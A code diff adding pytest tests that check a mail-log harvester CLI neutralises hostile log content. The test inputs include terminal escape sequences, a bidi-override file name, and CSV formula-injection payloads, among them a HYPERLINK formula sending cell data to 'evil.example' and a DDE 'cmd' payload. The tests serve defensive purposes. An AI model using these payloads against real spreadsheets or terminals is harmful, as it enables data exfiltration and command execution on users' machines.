@@ -176,3 +176,67 @@ def test_lookup_without_a_store_exits_2_and_says_to_backfill_first(url, capsys):
 def test_no_command_prints_help_and_exits_2(capsys):
     assert cli.main([]) == 2
     assert "usage: harvester" in capsys.readouterr().out
+
+
+# --- Hostile content from log lines reaching people (issue 13, item 12) ---------------------------
+HOSTILE = ("clear\x1b[2Jscreen", "csi\x9b31mred", "bell\x07ring", "evil\u202egpj.exe", "zoë@exämple.de")
+HOSTILE_LINE = "Nov 22 01:54:{s:02d} mx\x1b]0;owned\x07 dovecot: imap-login: Login: user=<{user}>, " \
+               "method=PLAIN\x9b1m, rip=192.0.2.{s}, lip=10.0.0.1, mpid=20{s}, session=<s\x1b[5m{s}>\n"
+
+
+def raw_controls(text: str) -> set[str]:
+    """Characters a terminal or spreadsheet would act on (line ends aside)."""
+    return {c for c in text if not c.isprintable() and c not in "\n\r"}
+
+
+@pytest.fixture
+def hostile_log(tmp_path) -> Path:
+    f = tmp_path / "hostile.log"
+    f.write_bytes("".join(HOSTILE_LINE.format(s=i + 1, user=u) for i, u in enumerate(HOSTILE)).encode())
+    return f
+
+
+def test_hostile_user_and_host_names_reach_no_terminal_raw(hostile_log, url, capsys):
+    assert backfill(url, hostile_log) == 0
+    capsys.readouterr()
+    for user in HOSTILE:
+        for args in (["lookup", "--store", url, user], ["lookup", "--json", "--store", url, user]):
+            assert cli.main(args) == 0
+            out = capsys.readouterr().out
+            assert not raw_controls(out), (args, out)
+    assert cli.main(["lookup", "--store", url, "zoë@exämple.de"]) == 0
+    assert "zoë@exämple.de" in capsys.readouterr().out  # other non-ASCII stays readable
+    assert cli.main(["export", "--store", url, "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    assert not raw_controls(out) and "clear\\x1b[2Jscreen" in out and "zoë@exämple.de" in out
+    assert cli.main(["export", "--store", url]) == 0
+    out = capsys.readouterr().out
+    assert not raw_controls(out)
+    rows = [json.loads(line) for line in out.splitlines()]
+    assert {r["user"] for r in rows} == set(HOSTILE)  # the store and the JSON keep the names verbatim
+    assert "zoë@exämple.de" in out
+    assert cli.main(["test-patterns", "--timezone", "UTC", "--year", "2026", str(hostile_log)]) == 0
+    out = capsys.readouterr().out
+    assert "events:  5" in out and not raw_controls(out), out
+
+
+def test_csv_cells_that_start_with_a_formula_are_neutralised(tmp_path, url, capsys):
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    f = tmp_path / "maillog"
+    f.write_bytes(b"".join(login(u, i) for i, u in enumerate([*formulas, "plain@example.org"])))
+    assert backfill(url, f) == 0
+    capsys.readouterr()
+    assert cli.main(["export", "--store", url, "--format", "csv"]) == 0
+    cells = {row[0] for row in csv.reader(io.StringIO(capsys.readouterr().out))}
+    assert cells == {"user", "plain@example.org", *("'" + u for u in formulas)}
+
+
+def test_log_lines_escape_control_characters_in_text_and_json(tmp_path, url, capsys):
+    named = tmp_path / "mail\x9b2J\x1b]0;title\x07.log"  # a path the log names
+    for fmt in ("text", "json"):
+        assert cli.main(["backfill", "--store", url, "--log-format", fmt, "--workers", "1", str(named)]) == 1
+        err = capsys.readouterr().err
+        assert "no such file" in err and not raw_controls(err), err
+        if fmt == "json":
+            messages = [json.loads(line)["message"] for line in err.splitlines() if line.startswith("{")]
+            assert any(str(named) in m for m in messages)  # the JSON still carries the exact name
